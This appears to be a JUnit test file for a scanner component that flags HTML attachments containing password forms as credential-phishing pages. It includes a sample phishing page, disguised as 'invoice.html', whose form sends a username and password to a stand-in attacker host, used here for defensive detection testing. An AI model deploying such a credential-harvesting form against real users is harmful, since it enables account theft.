package org.portcullis.example.credentialform;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.nio.charset.StandardCharsets;
import java.util.Optional;

import org.junit.jupiter.api.Test;
import org.portcullis.sandbox.Finding;
import org.portcullis.sandbox.testkit.SandboxAnalyzerContractTest;
import org.portcullis.scanner.Part;

/** The kit's contract, and what this analyser finds. */
class CredentialFormAnalyzerTest extends SandboxAnalyzerContractTest<CredentialFormAnalyzer> {

    private static final String PHISH = "<html><body><FORM action='https://evil.example/collect' method=post>"
            + "<input name=user><INPUT type=\"password\" name=pw></form></body></html>";

    @Override
    protected CredentialFormAnalyzer analyzer() {
        return new CredentialFormAnalyzer();
    }

    @Override
    protected Optional<Part> maliciousAttachment() {
        return Optional.of(attachment("invoice.html", "text/html", PHISH.getBytes(StandardCharsets.US_ASCII)));
    }

    @Test
    void aPageAskingForAPasswordIsFoundWhateverItsDeclaredType() throws Exception {
        Finding f = analyze(attachment("scan.htm", "application/octet-stream", "text/html", PHISH.getBytes(StandardCharsets.US_ASCII)));
        assertEquals(Finding.malicious("HTML form asking for a password (a credential-phishing page)"), f);
    }

    @Test
    void aFormWithoutAPasswordAndPlainPagesAreClean() throws Exception {
        assertEquals(Finding.clean(), analyze(attachment("survey.html", "text/html",
                "<form><input name=answer></form>".getBytes(StandardCharsets.US_ASCII))));
        assertEquals(Finding.clean(), analyze(attachment("news.html", "text/html",
                "<p>Your password policy changes on Monday.</p>".getBytes(StandardCharsets.US_ASCII))));
        assertFalse(analyze(attachment("notes.txt", "text/plain", PHISH.getBytes(StandardCharsets.US_ASCII))).malicious(),
                "not HTML by type or name: another analyser's business");
    }
}
